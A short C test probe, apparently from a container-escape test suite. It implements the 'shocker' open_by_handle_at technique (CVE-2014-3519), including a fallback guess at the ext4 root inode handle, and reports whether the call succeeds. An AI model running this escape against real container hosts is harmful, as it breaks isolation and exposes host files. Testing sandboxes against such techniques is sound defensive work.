// Open a file by its handle, which needs no path to it (CVE-2014-3519, "shocker").
//
// Proof: plain
// Users: root

#include "../attack.h"

static void attack(void) {
	struct {
		struct file_handle h;
		unsigned char room[128];
	} f = {.h.handle_bytes = 128};
	int mount;
	int at = open("/", O_RDONLY | O_DIRECTORY);
	if (name_to_handle_at(AT_FDCWD, "/usr", &f.h, &mount, 0) != 0) {
		f.h.handle_bytes = 8; // a guess: inode 2 is the root of an ext4
		f.h.handle_type = 1;
		memcpy(f.h.f_handle, (unsigned int[]){2, 0}, 8);
	}
	try_one("open_by_handle_at", open_by_handle_at(at, &f.h, O_RDONLY));
}
